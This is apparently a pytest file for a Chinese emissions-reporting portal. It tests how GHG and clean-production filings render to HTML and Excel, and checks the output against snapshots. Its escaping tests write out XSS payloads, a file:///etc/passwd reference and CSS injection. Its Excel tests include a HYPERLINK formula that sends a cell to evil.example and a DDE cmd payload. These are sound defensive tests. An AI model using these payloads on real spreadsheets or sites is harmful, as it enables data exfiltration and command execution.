"""Test the filing view, the HTML of the PDF copy of record (with snapshots) and the Excel filing.

No WeasyPrint here (test_renderers_pdf.py renders PDFs). Snapshots of the rendered HTML live in
tests/unit/snapshots/<kind>-<version>.html; regenerate them with UPDATE_SNAPSHOTS=1 after an intended
change — and never for a released template version, which must keep printing what it printed.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import difflib
import io
import os
import typing
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any, Literal, get_args, get_origin

import openpyxl
import pytest

from portal.calc.cpa import compute_cpa
from portal.calc.ghg import compute_ghg
from portal.domain import documents as documents_module
from portal.domain import schema as schema_module
from portal.domain.codec import document_from_json, document_sha256
from portal.domain.documents import CPA_KIND, GHG_KIND, KINDS, FuelLine
from portal.domain.fields import field_info
from portal.domain.findings import Finding
from portal.domain.formatting import number as format_number
from portal.domain.schema import schemas
from portal.reference import default_reference
from portal.renderers import (
    RenderMeta,
    TemplateNotFound,
    build_view,
    labels_from_reference,
    render_filing_html,
    render_xlsx,
    template_dir,
    template_versions,
)
from portal.renderers.html import chem
from portal.renderers.view import describe_path
from portal.renderers.xlsx import FORMULA_TRIGGERS

ROOT = Path(__file__).resolve().parents[2]
_SHARED = ROOT.parent / "shared" / "examples"
EXAMPLES = _SHARED if _SHARED.exists() else ROOT / "portal" / "demo_data"
SNAPSHOTS = Path(__file__).resolve().parent / "snapshots"
GHG_EXAMPLE = "ghg-jx-cement-2024.json"
CPA_EXAMPLE = "cpa-jx-cement-2023.json"
EXAMPLE_OF = {GHG_KIND: GHG_EXAMPLE, CPA_KIND: CPA_EXAMPLE}

SUBMITTED = RenderMeta(
    status="submitted",
    version=2,
    submitted_at=dt.datetime(2025, 3, 20, 6, 30, tzinfo=dt.UTC),
    signatory="刘建国",
    certification_statement="本单位郑重承诺：所报送的数据和材料真实、完整、准确。\nWe declare the data true, complete and accurate.",
    draft=False,
    rules_version="v1",
)

#: findings written by hand, so that snapshots do not move when a rule's wording changes
FINDINGS = [
    Finding(
        "ENT-005",
        "error",
        "enterprise.contact_phone",
        "未填写联系电话",
        "the contact phone is missing",
        "filing-format.md",
    ),
    Finding(
        "GHG-004",
        "warning",
        "fuels[0].ncv",
        "实测低位发热量 22.8 GJ/t 偏离缺省值",
        "the measured NCV is off the default",
        "《中国水泥生产企业温室气体排放核算方法与报告指南》",
        explained=True,
    ),
    Finding(
        "DSC-001",
        "notice",
        "",
        "须披露环境信息",
        "must publish a disclosure report",
        "《企业环境信息依法披露管理办法》第八条",
    ),
]
EXPLANATIONS = {
    "GHG-004@fuels[0].ncv": "2024 年更换煤源，附检测报告。",
    "PLN-009": "已于 2024 年完成超低排放改造。",
}


def load(name: str) -> Any:
    """Return a worked example as a document."""
    return document_from_json((EXAMPLES / name).read_bytes())


def computed_for(document: Any) -> Any:
    """Return the computed results of a document."""
    if document.kind == GHG_KIND:
        return compute_ghg(document, default_reference())
    return compute_cpa(document, default_reference())


def snapshot_inputs(kind: str) -> tuple[Any, Any, list[Finding], RenderMeta, Any]:
    """Return the fixed inputs rendered into a snapshot."""
    document = dataclasses.replace(load(EXAMPLE_OF[kind]), explanations=dict(EXPLANATIONS))
    labels = labels_from_reference(default_reference(), document)
    return document, computed_for(document), list(FINDINGS), SUBMITTED, labels


# ------------------------------------------------------------------------------------- the view


@pytest.mark.parametrize("kind", KINDS)
def test_every_document_field_is_shown_in_a_section(kind: str) -> None:
    document = load(EXAMPLE_OF[kind])
    view = build_view(document, computed_for(document), [], SUBMITTED)
    shown: set[str] = set()
    for section in view.sections:
        for table in section.tables:
            if table.key.endswith(".general"):
                shown.update(c.key for c in table.columns)
            else:
                shown.add(table.key.split(".")[0])
    # printed elsewhere: the kind and schema version on the cover, the explanations with the findings
    expected = {f.name for f in dataclasses.fields(type(document))} - {"kind", "schema_version", "explanations"}
    assert shown == expected


def test_a_field_no_section_names_is_refused_when_the_schema_is_built(monkeypatch: pytest.MonkeyPatch) -> None:
    sections = tuple(
        dataclasses.replace(s, fields=tuple(p for p in s.fields if p != "hcfc"))
        for s in schema_module._SECTIONS[GHG_KIND]
    )
    monkeypatch.setitem(schema_module._SECTIONS, GHG_KIND, sections)
    with pytest.raises(TypeError, match="hcfc"):
        schema_module.schema_of.__wrapped__(GHG_KIND)


def test_table_columns_come_from_the_field_metadata() -> None:
    document = load(GHG_EXAMPLE)
    view = build_view(document, computed_for(document), [], SUBMITTED)
    fuels = next(t for s in view.sections for t in s.tables if t.key == "fuels")
    infos = [field_info(f) for f in dataclasses.fields(FuelLine)]
    expected = [(i.label.zh, i.unit.zh if i.unit else None) for i in infos]
    assert [(c.zh, c.unit) for c in fuels.columns[1:]] == expected
    assert fuels.columns[0].zh == "序号"
    assert fuels.rows[0][:4] == (1, "1#窑", "bituminous", Decimal("160000"))


def _literal_values() -> set[str]:
    values: set[str] = set()
    for obj in vars(documents_module).values():
        if isinstance(obj, type) and dataclasses.is_dataclass(obj):
            for tp in typing.get_type_hints(obj).values():
                stack = [tp]
                while stack:
                    t = stack.pop()
                    if get_origin(t) is Literal:
                        values.update(a for a in get_args(t) if isinstance(a, str))
                    else:
                        stack.extend(get_args(t))
    return values


def test_every_closed_set_value_has_a_chinese_and_an_english_name() -> None:
    named: set[str] = set()
    for schema in schemas():
        for node in schema.root.walk():
            if node.values is not None:
                assert all(c.zh and c.en for c in node.values), node.path
                named.update(node.values.values)
    assert sorted(_literal_values() - named - set(KINDS)) == []


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (Decimal("1067866"), "1,067,866"),
        (Decimal("346681.84"), "346,681.84"),
        (Decimal("0.02618"), "0.02618"),
        (Decimal("1E+3"), "1,000"),
        (Decimal("-0"), "0"),
        (Decimal("-1234.5"), "-1,234.5"),
        (120, "120"),
        (True, "是"),
    ],
)
def test_numbers_are_printed_with_thousands_separators_and_their_own_decimals(value: Any, text: str) -> None:
    assert format_number(value) == text


@pytest.mark.parametrize(
    ("kind", "path", "text"),
    [
        (GHG_KIND, "fuels[0].ncv", "化石燃料燃烧 第1行 低位发热量（实测）"),
        (GHG_KIND, "enterprise.uscc", "企业信息 统一社会信用代码"),
        (GHG_KIND, "", "整份文书"),
        (GHG_KIND, "fuels[3].no_such_field", "化石燃料燃烧 第4行 no_such_field"),
        (CPA_KIND, "options[1].savings.co2_t", "清洁生产方案 第2行 减污降碳协同效益 二氧化碳减排量"),
        (CPA_KIND, "phases.feasibility.end", "审核阶段 方案的确定（可行性分析） 结束日期"),
    ],
)
def test_finding_paths_are_described_in_chinese(kind: str, path: str, text: str) -> None:
    assert describe_path(kind, path) == text


def test_chem_writes_subscripts_and_escapes() -> None:
    assert chem("tCO2e/单位") == "tCO<sub>2</sub>e/单位"
    assert (
        chem("SO2 NH3-N N2O CH4 NOx") == "SO<sub>2</sub> NH<sub>3</sub>-N N<sub>2</sub>O CH<sub>4</sub> NOx"
    )
    assert chem("<b>CO2</b>") == "&lt;b&gt;CO<sub>2</sub>&lt;/b&gt;"


def test_meta_refuses_what_could_break_the_page_footer() -> None:
    with pytest.raises(ValueError, match="sha256"):
        RenderMeta(sha256='abc"; } @page { content: url(http://x)')
    with pytest.raises(ValueError, match="aware"):
        RenderMeta(submitted_at=dt.datetime(2025, 1, 1))
    with pytest.raises(ValueError, match="start at 1"):
        RenderMeta(version=0)
    assert SUBMITTED.submitted_at_text == "2025-03-20 14:30（北京时间）"
    assert RenderMeta().draft is True and RenderMeta(status="accepted", version=1).draft is False
    assert RenderMeta(status="submitted", version=1, draft=True).draft is True


# ----------------------------------------------------------------------------------------- HTML


def test_ghg_html_prints_the_data_the_results_and_the_hash() -> None:
    document, computed, findings, meta, labels = snapshot_inputs(GHG_KIND)
    html = render_filing_html(document, computed, findings, meta, labels=labels)
    sha = document_sha256(document)
    assert "江西赣峰水泥有限公司" in html
    assert "1,067,866" in html  # total_tco2
    assert "346681.84 + 371.51 = 347053.35" in html  # the arithmetic behind combustion_tco2
    assert "160000 × 22.8 × 0.02618 × 0.99 × 44/12 = 346681.84" in html
    assert f"文书 SHA-256：{sha}" in html  # footer of every page
    assert "烟煤（bituminous）" in html
    assert "消耗量" in html and "t 或 万Nm³" in html  # units in the column headers
    assert "tCO<sub>2</sub>" in html and "\u2082" not in html  # Noto CJK has no U+2082
    assert "2024 年更换煤源，附检测报告。" in html  # the filer's explanation beside its finding
    assert "已于 2024 年完成超低排放改造。" in html  # an explanation with no current finding
    assert meta.certification_statement.split("\n")[0] in html
    assert 'class="watermark"' not in html


def test_cpa_html_prints_the_co_benefits_and_the_feasibility_figures() -> None:
    document, computed, findings, meta, labels = snapshot_inputs(CPA_KIND)
    html = render_filing_html(document, computed, findings, meta, labels=labels)
    assert "减污降碳协同效益" in html and "已实施方案合计" in html
    assert "2,200" in html  # Σ co2_t of implemented options
    assert "157.46" in html and "14.82" in html and "5.05" in html  # Z1 NPV, IRR %, payback
    assert "875.46" in html and "17.56" in html


def test_a_document_that_does_not_match_its_stored_hash_is_not_rendered() -> None:
    document = load(GHG_EXAMPLE)
    stored = dataclasses.replace(SUBMITTED, sha256=document_sha256(document))
    document.fuels[0].consumption = Decimal("160001")  # not what was frozen
    with pytest.raises(ValueError, match="SHA-256"):
        render_filing_html(document, computed_for(document), [], stored)


def test_draft_html_carries_the_watermark() -> None:
    document = load(GHG_EXAMPLE)
    html = render_filing_html(document, computed_for(document), [], RenderMeta())
    assert '<div class="watermark" aria-hidden="true">草稿</div>' in html
    assert document_sha256(document) in html  # a draft is hashed from the document itself


def test_document_values_are_escaped() -> None:
    document = load(GHG_EXAMPLE)
    document.enterprise.address = '<img src="file:///etc/passwd">'
    document.enterprise.name = "</title><script>alert(1)</script>"
    document.fuels[0].source = '<link rel="stylesheet" href="http://127.0.0.1:9/x.css">'
    html = render_filing_html(document, computed_for(document), [], RenderMeta())
    assert "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in html
    assert "<img" not in html and "<script" not in html and 'href="http' not in html


def test_unknown_template_versions_are_refused() -> None:
    document = load(GHG_EXAMPLE)
    with pytest.raises(TemplateNotFound):
        render_filing_html(document, computed_for(document), [], RenderMeta(), template_version="v99")
    with pytest.raises(TemplateNotFound):
        template_dir(GHG_KIND, "../clean_production_audit/v1")
    with pytest.raises(TemplateNotFound):
        template_versions("no_such_kind")


def _versions() -> list[tuple[str, str]]:
    return [(kind, version) for kind in KINDS for version in template_versions(kind)]


@pytest.mark.parametrize(("kind", "version"), _versions())
def test_rendered_html_matches_its_snapshot(kind: str, version: str) -> None:
    document, computed, findings, meta, labels = snapshot_inputs(kind)
    html = render_filing_html(document, computed, findings, meta, labels=labels, template_version=version)
    path = SNAPSHOTS / f"{kind}-{version}.html"
    if os.environ.get("UPDATE_SNAPSHOTS") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(html, "utf-8")
        return
    assert path.exists(), f"no snapshot {path.name}: run the tests with UPDATE_SNAPSHOTS=1 to create it"
    expected = path.read_text("utf-8")
    if html != expected:
        diff = "".join(
            list(
                difflib.unified_diff(expected.splitlines(True), html.splitlines(True), "snapshot", "rendered")
            )[:80]
        )
        pytest.fail(f"{path.name} differs (UPDATE_SNAPSHOTS=1 regenerates it if intended):\n{diff}")


# ---------------------------------------------------------------------------------------- Excel


def workbook(kind: str, document: Any = None, findings: list[Finding] | None = None) -> openpyxl.Workbook:
    """Render and reload the Excel filing of a document."""
    document = document or load(EXAMPLE_OF[kind])
    labels = labels_from_reference(default_reference(), document)
    data = render_xlsx(document, computed_for(document), findings or [], SUBMITTED, labels=labels)
    return openpyxl.load_workbook(io.BytesIO(data))


def row_of(ws: Any, first_value: str) -> tuple[Any, ...]:
    """Return the cells of the row whose first cell holds ``first_value``."""
    for row in ws.iter_rows():
        if row[0].value == first_value:
            return row
    raise AssertionError(f"no row {first_value!r} in {ws.title}")


def header(ws: Any) -> list[str]:
    """Return the Chinese header row of a sheet."""
    return [c.value for c in ws[2]]


def test_ghg_workbook_has_a_sheet_per_section() -> None:
    wb = workbook(GHG_KIND)
    assert wb.sheetnames == [
        "概况",
        "化石燃料",
        "过程排放",
        "电力热力",
        "产品",
        "能耗",
        "发电机组",
        "供热比",
        "锅炉",
        "工业炉窑",
        "污染物与许可",
        "其他",
        "自报总量",
        "计算结果",
        "计算参数",
        "审核发现",
        "版本信息",
    ]
    for ws in wb.worksheets:
        assert ws.freeze_panes in ("A4", "A3"), ws.title  # header rows stay in view


def test_cpa_workbook_has_a_sheet_per_section() -> None:
    wb = workbook(CPA_KIND)
    assert wb.sheetnames == [
        "概况",
        "审核类型",
        "咨询机构",
        "阶段",
        "审核重点",
        "清洁生产指标",
        "清洁生产方案",
        "减污降碳协同效益",
        "方案参数",
        "评估验收",
        "经济可行性",
        "计算结果",
        "审核发现",
        "版本信息",
    ]


def test_ghg_workbook_holds_numbers_as_numbers_with_units_in_headers() -> None:
    wb = workbook(GHG_KIND)
    total = row_of(wb["计算结果"], "温室气体排放总量")
    assert total[1].data_type == "n" and total[1].value == 1067866
    assert total[2].value == "tCO2e"
    combustion = row_of(wb["计算结果"], "化石燃料燃烧排放量")
    assert combustion[1].value == pytest.approx(347053.35) and combustion[1].number_format == "#,##0.00"
    fuels = wb["化石燃料"]
    assert "消耗量（t 或 万Nm³）" in header(fuels)
    consumption = fuels.cell(4, header(fuels).index("消耗量（t 或 万Nm³）") + 1)
    assert consumption.data_type == "n" and consumption.value == 160000
    assert fuels.cell(4, 3).value == "bituminous" and fuels.cell(4, 4).value == "烟煤"  # code, then its name
    energy = wb["电力热力"]
    assert header(energy)[0] == "购入电量（MWh）" and energy["A4"].value == 98000
    version = {r[0].value: r[2].value for r in wb["版本信息"].iter_rows(min_row=3)}
    assert version["文书 SHA-256"] == document_sha256(load(GHG_EXAMPLE))
    assert version["版本号"] == 2 and version["签署人"] == "刘建国"


def test_cpa_workbook_holds_the_co_benefit_total_and_the_feasibility_figures() -> None:
    wb = workbook(CPA_KIND)
    co = wb["减污降碳协同效益"]
    total = next(r for r in co.iter_rows(min_row=4) if r[1].value == "已实施方案合计")
    co2 = header(co).index("二氧化碳减排量（t/a）")
    assert total[co2].value == 2200 and total[co2].data_type == "n"
    z1 = row_of(wb["经济可行性"], "Z1")
    assert [c.value for c in z1[5:8]] == [pytest.approx(5.05), pytest.approx(157.46), pytest.approx(14.82)]


def test_workbook_findings_sheet_has_findings_and_explanations() -> None:
    document = dataclasses.replace(load(GHG_EXAMPLE), explanations=dict(EXPLANATIONS))
    wb = workbook(GHG_KIND, document, FINDINGS)
    ws = wb["审核发现"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4)]
    assert [r[0] for r in rows] == ["ENT-005", "GHG-004", "DSC-001", "PLN-009"]
    assert rows[1][9] == "2024 年更换煤源，附检测报告。" and rows[1][8] == "是"


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_text_that_looks_like_a_formula_is_stored_as_text() -> None:
    document = dataclasses.replace(load(GHG_EXAMPLE), explanations={"GHG-004@fuels[0].ncv": "=1+1"})
    document.enterprise.name = INJECTIONS[0]
    document.enterprise.address = INJECTIONS[1]
    document.enterprise.contact_name = INJECTIONS[2]
    document.enterprise.contact_phone = INJECTIONS[3]
    document.fuels[0].source = INJECTIONS[4]
    document.fuels[1].source = INJECTIONS[5]
    document.processes[0].source = INJECTIONS[6]
    findings = [dataclasses.replace(FINDINGS[1], message_zh="=cmd()", citation="@x")]
    data = render_xlsx(document, computed_for(document), findings, SUBMITTED)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name  # no formula element anywhere
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen: dict[str, Any] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    seen[cell.value] = cell
    for text in [*INJECTIONS, "=1+1", "=cmd()", "@x"]:
        # kept as text; a serialiser that does not escape a carriage return has it read back as a line feed
        cell = seen.get(text) or seen[text.replace("\r", "\n")]
        assert cell.data_type == "s" and cell.quotePrefix, text


def test_control_characters_do_not_break_the_workbook() -> None:
    document = load(GHG_EXAMPLE)
    document.enterprise.address = "江西\x01赣州\x1f"
    wb = workbook(GHG_KIND, document)
    row = [c.value for c in wb["概况"][4]]
    assert "江西\ufffd赣州\ufffd" in row
